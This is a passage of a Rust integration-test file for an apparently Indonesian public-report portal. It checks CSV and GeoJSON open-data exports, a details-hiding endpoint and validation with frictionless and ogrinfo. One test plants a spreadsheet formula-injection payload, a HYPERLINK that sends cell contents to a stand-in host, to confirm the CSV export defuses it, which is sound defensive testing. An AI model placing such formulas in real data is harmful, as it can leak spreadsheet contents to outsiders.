    assert_ne!(id["error"]["message"], en["error"]["message"], "a message in each language");

    // Shown again: back everywhere.
    let shown = put_details(&app, &token, &code, &json!({"revision": revision + 1, "hidden": false}), false).await;
    assert_eq!(shown.status, StatusCode::OK, "{}", shown.text());
    assert_eq!(shown.json()["details_hidden"], false);
    assert_eq!(app.get(&public[0]).await.json()["description"], "NAMA-TETANGGA-DI-URAIAN");
    assert!(app.get("/open-data/reports.csv").await.text().contains("PATOKAN-RUMAH-HIJAU"));
    let doc = app.get("/api/v1/openapi.json").await.json();
    assert!(doc["paths"]["/api/v1/staff/tickets/{code}/details"]["put"].is_object(), "documented");
}

/// A verified report whose text is a spreadsheet formula comes out of the
/// CSV as text a spreadsheet shows rather than runs; numbers, dates and the
/// GeoJSON keep what was stored.
#[tokio::test]
async fn open_data_csv_runs_no_formulas() {
    let app = app().await;
    let formula = "=HYPERLINK(\"http://contoh.invalid/?d=\"&A1,\"Klik\")";
    let mut evil = report("sampah", formula, 1.4472, 125.1978);
    evil["address"] = "@pasar -- dekat gereja".into();
    let code = app.create_report(&evil).await;
    app.move_ticket(&code, &json!({"status": "verified"})).await;
    let plain = app.create_report(&report("banjir", "Air naik sampai lutut", 1.45, 125.2)).await;
    app.move_ticket(&plain, &json!({"status": "verified"})).await;

    let answer = app.get("/open-data/reports.csv").await;
    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text());
    let text = answer.text();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().expect("a header").clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("a row")).collect();
    let cell = |row: &csv::StringRecord, name: &str| -> String {
        let at = header.iter().position(|h| h == name).expect("the column");
        row[at].to_owned()
    };
    let row = rows.iter().find(|r| cell(r, "code") == code).expect("the report is in the CSV");
    assert_eq!(cell(row, "description"), format!("'{formula}"), "{text}");
    assert_eq!(cell(row, "address"), "'@pasar -- dekat gereja");
    assert_eq!((cell(row, "lat"), cell(row, "lng")), ("1.4472".to_owned(), "125.1978".to_owned()));
    assert!(cell(row, "created_at").starts_with("20"), "dates are untouched: {text}");
    assert_eq!(cell(row, "supporters"), "0");
    let other = rows.iter().find(|r| cell(r, "code") == plain).expect("the other report");
    assert_eq!(cell(other, "description"), "Air naik sampai lutut", "ordinary text is untouched");
    // No cell of the whole file begins with a formula character.
    for row in &rows {
        for value in row {
            assert!(!value.starts_with(['=', '+', '-', '@', '\t', '\r']), "{value:?} in {text}");
        }
    }
    // The GeoJSON is read as data, not by spreadsheets: it keeps the text as written.
    let geojson = app.get("/open-data/reports.geojson").await.json();
    let feature = geojson["features"]
        .as_array()
        .expect("features")
        .iter()
        .find(|f| f["id"] == code.as_str())
        .cloned()
        .expect("the feature");
    assert_eq!(feature["properties"]["description"], formula);
}

/// The files, read by what reusers read them with: the CSV and GeoJSON
/// agree, and the real server's data package passes `frictionless
/// validate`, and its GeoJSON GDAL's `ogrinfo`.
#[tokio::test]
async fn open_data_reads_in_other_tools() {
    let dir = tempfile::tempdir().expect("temporary folder");
    let portal = Portal::start(dir.path(), &[]).await;
    let client = reqwest::Client::new();
    let mut codes = Vec::new();
    for (category, description, lat, lng) in [
        ("sampah", "Sampah, \"menumpuk\"\ndi pasar; =1+1", 1.4472, 125.1978),
        ("odgj", "Orang di depan toko", 1.45123, 125.18345),
        ("pohon-tumbang", "Pohon tumbang", 1.5, 125.25),
    ] {
        let answer: Value = client
            .post(format!("{}/api/v1/reports", portal.base))
            .json(&json!({"category": category, "description": description, "location": {"lat": lat, "lng": lng}}))
            .send()
            .await
            .expect("sent")
            .json()
            .await
            .expect("json");
        codes.push(answer["code"].as_str().expect("code").to_owned());
    }
    let without_place: Value = client
        .post(format!("{}/api/v1/reports", portal.base))
        .json(&json!({"category": "lampu-jalan", "description": "Lampu mati", "district": "71.72.06", "address": "Depan SD"}))
        .send()
        .await
        .expect("sent")
        .json()
        .await
        .expect("json");
    codes.push(without_place["code"].as_str().expect("code").to_owned());

    let package: Value = client
        .get(format!("{}/open-data/datapackage.json", portal.base))
        .send()
        .await
        .expect("get")
        .json()
        .await
        .expect("json");
    assert_eq!(package["licenses"][0]["name"], "CC-BY-4.0");
    assert_eq!(package["resources"][0]["schema"]["fields"][0]["name"], "code");

    let frictionless = tool("frictionless");
    let out = Command::new(&frictionless)
        .args(["validate", "--json"])
        .arg(format!("{}/open-data/datapackage.json", portal.base))
        .output()
        .expect("frictionless runs (scripts/install-tools.sh test installs it)");
    let report: Value = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
    assert!(
        report["valid"] == true,
        "frictionless finds the package invalid:\n{}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    let rows = report["tasks"][0]["stats"]["rows"].as_u64();
    assert_eq!(rows, Some(4), "{report}");

    let geojson = client.get(format!("{}/open-data/reports.geojson", portal.base)).send().await.expect("get");
    assert_eq!(geojson.headers()["content-type"], "application/geo+json");
    let path = dir.path().join("reports.geojson");
    std::fs::write(&path, geojson.bytes().await.expect("body")).expect("written");
    let out =
        Command::new(tool("ogrinfo")).args(["-ro", "-al", "-so"]).arg(&path).output().expect("ogrinfo runs (gdal-bin)");
    let info = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "ogrinfo: {info}\n{}", String::from_utf8_lossy(&out.stderr));
    assert!(info.contains("Geometry: Point") && info.contains("Feature Count: 4"), "{info}");
    for field in ["code: String", "status: String", "supporters: Integer", "location_precision: String"] {
        assert!(info.contains(field), "{field} in {info}");
    }
    let out = Command::new(tool("ogrinfo")).args(["-ro", "-al", "-q"]).arg(&path).output().expect("ogrinfo runs");
    let features = String::from_utf8_lossy(&out.stdout);
    assert!(features.contains("POINT (125.1788 1.4549)"), "the sensitive report is at its kelurahan: {features}");
    assert!(features.contains("village (String) = Kadoodan"), "{features}");
    assert!(!features.contains("1.45123"), "{features}");
}

/// A tool on PATH, or where `scripts/install-tools.sh test` puts it.
fn tool(name: &str) -> PathBuf {
    let cache = std::env::var_os("PORTAL112_TOOLS")
        .map(PathBuf::from)
        .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(".cache/portal112/tools")));
    let cached = cache.map(|c| c.join("bin").join(name));
    match cached {
        Some(p) if p.exists() => p,
        _ => PathBuf::from(name),
    }
}
